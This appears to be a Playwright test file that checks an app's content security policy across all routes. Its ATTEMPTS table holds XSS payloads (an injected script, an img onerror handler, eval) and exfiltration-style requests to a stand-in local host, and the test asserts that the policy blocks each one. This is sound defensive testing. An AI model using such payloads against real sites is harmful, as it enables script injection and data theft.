"""The content security policy in a real browser: nothing of ours breaks, nothing of a stranger's runs or leaves.

Playwright's `wait_for_function` evals a bare expression, which the policy forbids: give it a function (`() => …`).
"""

from __future__ import annotations

import re

WATCH = """() => {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
}"""

ATTEMPTS = {
    "const s = document.createElement('script'); s.text = 'window.hacked = 1'; document.head.append(s)": "script-src",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')": "script-src",
    "setTimeout(() => { try { eval('window.hacked = 1') } catch {} })": "script-src",
    "new Image().src = 'http://127.0.0.1:9/?stolen'": "img-src",
    "fetch('http://127.0.0.1:9/?stolen').catch(() => {})": "connect-src",
    "const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:9/'; document.body.append(f)": "frame-src",
}


def routes() -> list[str]:
    """Every page of the app; a part of the address gets a value."""
    from app.app import app

    return sorted("/" + re.sub(r"\[+\.*\w+\]+", "x", route).replace("index", "") for route in app._unevaluated_pages)


def test_every_screen_obeys_its_policy_and_code_of_others_does_not_run(server, phone) -> None:
    server.sign_in(phone.context, "admin")
    phone.add_init_script(f"({WATCH})()")
    found = {}
    for route in routes():
        answer = phone.goto(server.url + route)
        assert "script-src 'self' 'sha256-" in answer.headers["content-security-policy"], route
        phone.wait_for_selector("main")
        found[route] = phone.evaluate("() => window.__violations")
    assert not {route: bad for route, bad in found.items() if bad}
    for attempt, directive in ATTEMPTS.items():
        phone.goto(server.url + "/login")
        phone.evaluate("() => { " + attempt + " }")
        phone.wait_for_function("(wanted) => window.__violations.some((v) => v.startsWith(wanted))", arg=directive)
        assert phone.evaluate("() => window.hacked") is None
